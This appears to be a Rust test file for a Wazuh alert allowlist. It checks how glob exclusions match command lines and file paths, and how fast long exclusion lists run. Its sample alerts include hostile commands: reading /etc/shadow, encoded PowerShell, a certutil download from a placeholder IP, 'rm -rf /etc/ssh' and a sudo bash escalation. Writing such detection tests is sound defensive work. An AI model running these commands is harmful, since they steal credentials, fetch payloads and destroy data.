//! What a `not` excludes, and what it leaves to its rule.

use super::evasion::excludes_only;
use super::*;

const LINE: &str = "data.win.eventdata.commandLine";

#[test]
fn a_star_in_a_not_goes_over_slashes_where_no_path_stands() {
    excludes_only(&[
        (
            "data.command",
            "{ glob = '/bin/cat *' }",
            &["/bin/ls /etc", "/usr/bin/cat"],
            &["/bin/cat /etc/shadow", "/bin/cat x", "/BIN/cat ../x"],
        ),
        (
            LINE,
            "{ glob = '*powershell* -enc *' }",
            &[r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -File C:\x.ps1"],
            &[
                "powershell.exe -enc SQBFAFgA/w==",
                r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -enc SQ==",
            ],
        ),
        (
            LINE,
            "{ glob = 'certutil* -urlcache *' }",
            &["certutil.exe -store my"],
            &["certutil.exe -urlcache -f http://203.0.113.9/a b"],
        ),
        (
            LINE,
            "{ glob = '*whoami*' }",
            &[r"C:\Windows\System32\whom.exe"],
            &[r"C:\Windows\System32\whoami.exe", "whoami /all"],
        ),
        (
            LINE,
            "{ glob = 'rm.exe *' }",
            &["ls.exe /etc"],
            &["rm.exe -rf /etc/ssh"],
        ),
        (LINE, "{ glob = 'net?user*' }", &["netuser"], &["net/user/x"]),
        (
            "full_log",
            "{ glob = '*COMMAND=/bin/bash*' }",
            &["sudo: bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/ls /bin/bash"],
            &[
                "sudo: bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash",
                "sudo: bob : USER=root ; COMMAND=/bin/bash -c /tmp/x",
            ],
        ),
        (
            "data.alert.signature",
            "{ glob = '*MALWARE*' }",
            &["ET POLICY curl/7.68"],
            &["ET MALWARE Win32/Stealer"],
        ),
        (
            "data.url",
            "{ glob = '/admin?*' }",
            &["/shop/admin"],
            &["/admin?next=/x", "/admin/x"],
        ),
    ]);
}

#[test]
fn a_star_in_a_not_stays_in_its_folder_where_paths_stand() {
    excludes_only(&[
        (
            "data.win.eventdata.image",
            r"{ glob = 'C:\Windows\*.exe' }",
            &[r"C:\Windows\System32\svchost.exe"],
            &[r"C:\Windows\explorer.exe", "C:/Windows/explorer.exe"],
        ),
        (
            "syscheck.path",
            "{ glob = '/etc/*' }",
            &["/etc/ssh/sshd_config"],
            &["/etc/passwd"],
        ),
        (
            "location",
            "{ glob = '/var/log/*' }",
            &["/var/log/nginx/access.log"],
            &["/var/log/auth.log"],
        ),
        (
            "data.win.eventdata.taskName",
            r"{ glob = '\Acme\*' }",
            &[r"\Acme\Backup\Nightly"],
            &[r"\Acme\Nightly"],
        ),
    ]);
}

#[test]
fn a_long_list_in_a_not_reads_a_value_no_more_often_than_a_short_one() {
    let list = |length: usize| {
        let items: Vec<String> = (0..length)
            .map(|at| format!("'10.1.{}.{}'", at / 250, at % 250))
            .collect();
        allowlist(&format!(
            "{HEAD}[match]\n\"rule.id\" = \"100211\"\nnot = {{ \"data.srcuser\" = {{ in = [{}] }} }}",
            items.join(", ")
        ))
        .unwrap()
    };
    let (one, many) = (list(1), list(200));
    for value in [" /".repeat(4 << 10), "bob 1 2 ".repeat(1 << 10)] {
        let alert = alert_with("data.srcuser", &value);
        let alert = wazuh_model::Alert::from_slice(alert.as_bytes()).unwrap();
        let subject = Subject::of(&alert, 1_768_900_000_000_000);
        let fastest = |rules: &Allowlist| {
            let times = (0..5).map(|_| {
                let started = std::time::Instant::now();
                assert!(rules.decides(&subject).is_some());
                started.elapsed()
            });
            times.min().unwrap()
        };
        let (one, many) = (fastest(&one), fastest(&many));
        // It would take 200 times as long if each of its items read the value anew.
        assert!(many < one * 50, "{many:?} for 200 items, {one:?} for one");
    }
}
